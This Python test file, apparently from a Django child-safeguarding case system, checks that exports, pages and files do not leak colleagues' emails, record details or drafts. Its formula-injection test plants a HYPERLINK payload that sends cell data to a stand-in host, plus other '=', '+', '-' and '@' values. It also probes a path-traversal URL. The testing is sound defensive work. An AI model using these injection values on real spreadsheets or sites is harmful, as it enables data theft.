"""What leaves by accident elsewhere: addresses of colleagues, records by an open door, drafts, formulas in a file."""

import io
import re
import zipfile
from collections.abc import Iterator

import msoffcrypto
import openpyxl
import pytest
from django.test import Client
from django.urls import reverse

from safelight.access.models import User
from safelight.access.roles import Role
from safelight.children.models import Child
from safelight.core.errors import NotFound
from safelight.files import actions as files
from safelight.files.models import AttachedFile
from safelight.governance import contents
from safelight.outputs import downloads
from safelight.sharing.copies import CopyKind
from tests import printed
from tests.factories.files import TEXT
from tests.integration.url_access import ACCESS
from tests.integration.who_may.addresses import ADDRESS_ARGUMENTS, PLAIN_ARGUMENTS, Arguments
from tests.integration.who_may.asking import address, ask
from tests.integration.who_may.expected import ROLES
from tests.integration.who_may.forms import filled_in
from tests.integration.who_may.matrix.test_houses import PLAIN
from tests.integration.who_may.world import NOW, Record, Relation, World, sign_in, taken_back

pytestmark = [pytest.mark.django_db, pytest.mark.req("SH-04"), pytest.mark.hazard("HZ-14")]

FORMULA = '=HYPERLINK("http://example.org?"&A1)'
SHEETS = ("spreadsheet", "csv", "excel", "tab-separated")
PAGES_OF_OUTPUTS = {"outputs:documents", "outputs:take"}
# What comes as one file, or as files of other names than an assessment's forms.
OTHER_FILES: dict[str, tuple[dict[str, str], ...]] = {
    "outputs:progress_report": ({},),
    "outputs:minutes": tuple(
        {"copy": copy, "extension": extension} for copy in ("record", *CopyKind) for extension in downloads.EXTENSIONS
    ),
}
# Given out only to a form, and only once words stand in it: asked in tests/integration/outputs and young_person.
BY_FORM = {"outputs:taken", "outputs:young_person"}
FILES_OF_OUTPUTS = sorted(
    name
    for name in ADDRESS_ARGUMENTS
    if name.startswith("outputs:") and name not in PAGES_OF_OUTPUTS | BY_FORM | OTHER_FILES.keys()
)


def everything_in(data: bytes) -> str:
    """All text of a file that leaves: each part of a Word file with its properties; the words of a PDF with its own."""
    if data.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(data)) as parts:
            return "\n".join(parts.read(name).decode("utf-8", "replace") for name in parts.namelist())
    return printed.pdf_words(data) + data.decode("latin-1") if data.startswith(b"%PDF") else data.decode("latin-1")


def emails() -> list[str]:
    return list(User.objects.values_list("email", flat=True))


def files_of(record: Record) -> Iterator[Arguments]:
    """Every filled-in form, in both formats."""
    for name in FILES_OF_OUTPUTS:
        arguments = dict(ADDRESS_ARGUMENTS[name](record))
        for extension in downloads.EXTENSIONS:
            for form in downloads.ASSESSMENT_FORMS if "form" in arguments else ("",):
                yield {"name": name, **arguments, "extension": extension, **({"form": form} if form else {})}
    for name, given in OTHER_FILES.items():
        for file in given:
            yield {"name": name, **ADDRESS_ARGUMENTS[name](record), **file}


def test_no_file_that_leaves_holds_the_email_address_of_a_colleague(world: World) -> None:
    """A colleague of another agency prints: what they carry away names people and jobs, and no address."""
    record, known, read = world.children[Relation.NAMED], emails(), 0
    client = sign_in(world.people[Role.COORDINATOR])
    for arguments in files_of(record):
        name = str(arguments["name"])
        with taken_back():
            given = {key: value for key, value in arguments.items() if key != "name"}
            answer = client.get(address(name, given))
        assert answer.status_code == 200, arguments
        words = everything_in(answer.content)
        assert not [each for each in known if each in words], arguments
        read += 1
    assert read == 2 * (len(FILES_OF_OUTPUTS) - 1 + len(downloads.ASSESSMENT_FORMS)) + sum(
        map(len, OTHER_FILES.values())
    )


@pytest.mark.hazard("HZ-37")
def test_no_answer_to_a_request_holds_the_email_address_of_a_colleague(world: World) -> None:
    """What a subject access bundle is made of, before anybody has blacked anything out."""
    child = world.children[Relation.OWN].child
    words = "\n".join(str(vars(each)) for each in contents.gather(child))
    assert len(words) > 500
    assert not [each for each in emails() if each in words]


def test_no_page_about_no_child_shows_the_email_address_of_a_colleague(world: World) -> None:
    """Each page that a role may open, but an administrator's, who made the accounts. One's own address is one's own."""
    read = 0
    for role in (Role.MANAGER, Role.COORDINATOR, Role.PRACTITIONER, Role.INFORMATION_OFFICER):
        person = world.people[role]
        known = [each.encode() for each in emails() if each != person.email]
        for name in PLAIN:
            if role not in ROLES[ACCESS[name]] or name.startswith("outputs:blank"):
                continue
            answer = ask(world, person, "get", address(name, PLAIN_ARGUMENTS.get(name, {})))
            assert not [each for each in known if each in answer.body], f"{name} as {role.value}"
            read += answer.status == 200
    assert read > 20


@pytest.mark.hazard("HZ-13")
def test_nothing_of_a_record_is_public_by_accident(world: World) -> None:
    """A stranger asks every address with the real identifiers of a record: each leads to the sign-in page, and says
    no more than that. A file has no address of its own beside the record's."""
    record = world.children[Relation.OWN]
    stranger = Client(raise_request_exception=False)
    secret = (record.child.given_name, record.child.family_name, record.child.reference, "Aunt Bea", "He waits for me")
    for name in sorted(ADDRESS_ARGUMENTS):
        for method in ("get", "post", "head", "options"):
            where = address(name, ADDRESS_ARGUMENTS[name](record))
            sent = {"data": filled_in(world, name, record)} if method == "post" else {}
            with taken_back():
                answer = getattr(stranger, method)(where, **sent)
            assert (answer.status_code, answer.content) == (302, b""), f"{method} {name}"
            assert answer.headers["Location"].startswith(reverse("access:sign_in")), f"{method} {name}"
            assert not [each for each in secret if each in answer.headers["Location"]], name
    file_id = record.ids["file_id"]
    for where in (f"/static/{file_id}", f"/files/{file_id}", f"/media/{file_id}", f"/static/../files/{file_id}"):
        answer = stranger.get(where)
        body = b"".join(answer.streaming_content) if answer.streaming else answer.content
        assert answer.status_code in (302, 404) and TEXT not in body, where


def test_no_door_for_strangers_says_a_word_of_what_came_in_by_it(world: World) -> None:
    """Elsewhere the page of thanks showed the last message to whoever came next."""
    message = world.a.message
    typed = [words for words in (message.words, message.name, message.safe_contact) if words]
    assert typed
    stranger = Client(raise_request_exception=False)
    for name, word in ACCESS.items():
        if word not in ("public", "door"):
            continue
        given = {
            "front_door:choose": {"code": "kestrel-bay"},
            "front_door:tell": {"code": "kestrel-bay", "kind": "young-person"},
            "delivery:link": {"token": "made-up"},
        }.get(name, {})
        with taken_back():
            answer = stranger.get(reverse(name, kwargs=given))
        assert answer.status_code == 200, name
        assert not [each for each in typed if each in answer.content.decode()], name


def test_an_assessment_that_is_not_completed_is_marked_so_on_paper(world: World) -> None:
    """A draft that is printed for a meeting is no level that somebody decided."""
    record = world.children[Relation.OWN]
    client = sign_in(world.people[Role.PRACTITIONER])
    for extension in downloads.EXTENSIONS:
        for form in downloads.ASSESSMENT_FORMS:
            given = {"child_id": record.child.pk, "form": form, "extension": extension}
            with taken_back():
                drafted = client.get(reverse("outputs:assessment", kwargs={**given, "assessment_id": record.draft.pk}))
                ended = client.get(
                    reverse("outputs:assessment", kwargs={**given, "assessment_id": record.completed.pk})
                )
            read = printed.word_words if extension == "docx" else printed.pdf_words
            assert "DRAFT" in printed.ink(read(drafted.content)).upper(), f"{form} {extension}"
            assert "DRAFT" not in printed.ink(read(ended.content)).upper(), f"{form} {extension}"


def test_no_file_is_attached_given_out_or_sealed_past_the_rule_of_the_record(world: World) -> None:
    """The actions themselves ask, whatever page or command calls them; and nothing of it is kept."""
    for relation in (Relation.OTHER_AGENCY, Relation.OTHER_PARTNERSHIP, Relation.RESTRICTED, Relation.CONFLICT):
        record = world.children[relation]
        child = Child.objects.get(pk=record.child.pk)
        before = list(AttachedFile.objects.filter(child=child).order_by("pk").values())
        named = {"child_id": child.pk, "file_id": record.ids["file_id"]}
        sealed = {**named, "file_id": record.ids["sealed_id"]}
        for role in (Role.MANAGER, Role.COORDINATOR, Role.ADMINISTRATOR):
            by = world.people[role]
            for bypass in (
                lambda by=by, child=child: files.attach(
                    by=by, child=child, title="A letter", kind="letter", name="a.txt", data=TEXT
                ),
                lambda by=by, named=named: files.give_out(by=by, **named),
                lambda by=by, named=named: files.seal(by=by, **named),
                lambda by=by, sealed=sealed: files.record_police(
                    by=by,
                    **sealed,
                    outcome="removed",
                    police_name="PC 1",
                    police_reference="44",
                    told_at=NOW,
                ),
            ):
                with taken_back(), pytest.raises(NotFound):
                    bypass()
        assert list(AttachedFile.objects.filter(child=child).order_by("pk").values()) == before


@pytest.mark.req("BE-13")
def test_every_file_of_cells_that_leaves_is_one_that_is_asked_for_formulas(world: World) -> None:
    """Every address of a child is asked, with whatever may be typed as a name set to a formula: what answers with a
    spreadsheet is opened, and no cell of it is run. None of them leaves without its passphrase."""
    record, manager = world.children[Relation.OWN], world.people[Role.MANAGER]
    found = []
    with taken_back():
        User.objects.exclude(pk=manager.pk).update(name=FORMULA, job_title="@SUM(A1)")
        Child.objects.filter(pk=record.child.pk).update(given_name=FORMULA, family_name="-2+3", area="\t=1")
        record.place.maker.agency.__class__.objects.filter(pk=record.place.maker.agency_id).update(name="+1")
        sign_in(world.people[Role.PRACTITIONER]).get(reverse("children:details", args=[record.child.pk]))
        for name in sorted(ADDRESS_ARGUMENTS):
            for method in ("get", "post"):
                where = address(name, ADDRESS_ARGUMENTS[name](record))
                client = world.browser(manager)
                with taken_back():
                    fields = filled_in(world, name, record)
                    answer = client.get(where) if method == "get" else client.post(where, fields)
                if not any(each in answer.headers.get("Content-Type", "") for each in SHEETS):
                    continue
                found.append(name)
                locked = msoffcrypto.OfficeFile(io.BytesIO(answer.content))
                assert locked.is_encrypted(), name
                locked.load_key(password=fields["passphrase"])
                locked.decrypt(plain := io.BytesIO())
                sheet = openpyxl.load_workbook(plain).active
                cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
                assert any(FORMULA in str(cell.value) for cell in cells), name
                assert not [cell for cell in cells if cell.data_type == "f"], name
                assert not [cell for cell in cells if re.match(r"\s*[=+\-@]", str(cell.value))], name
    assert found == ["oversight:viewers_file"]
